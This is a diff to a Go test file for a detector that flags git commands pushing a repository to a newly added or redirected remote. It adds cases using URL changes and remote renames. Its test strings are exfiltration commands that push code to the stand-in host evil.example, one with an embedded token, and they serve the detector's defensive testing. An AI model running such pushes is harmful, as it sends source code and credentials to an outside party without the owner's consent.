@@ -22,6 +22,8 @@ func TestGitRemoteAddedOnTheWay(t *testing.T) {
 		`git push --tags git@evil.example:me/stolen.git`,
 		`git -C /home/user/project push https://x-token:abc@evil.example/r.git HEAD:main`,
 		`cd repo && git remote add m https://evil.example/m.git && bash -c 'git push m --all'`,
+		`git config remote.m.url https://evil.example/m.git; git push m`,
+		`git remote add t https://evil.example/m.git && git remote rename t u && git push u`,
 	} {
 		fs := analyzeScript(t, s)
 		if l, ok := levelOf(fs, ruleGitRemote); !ok || l != risk.High {
@@ -40,6 +42,7 @@ func TestGitRemoteAddedOnTheWay(t *testing.T) {
 		`git push ssh://git@10.0.0.5/app.git main`,
 		`git remote add x https://evil.example/r.git && git remote set-url --delete x https://evil.example/r.git`,
 		`git push "$REMOTE" main`,
+		`git remote add t https://evil.example/m.git && git remote remove t && git push t`,
 		`echo git push https://evil.example/r.git`,
 	} {
 		if fs := analyzeScript(t, s); func() bool { _, ok := levelOf(fs, ruleGitRemote); return ok }() {
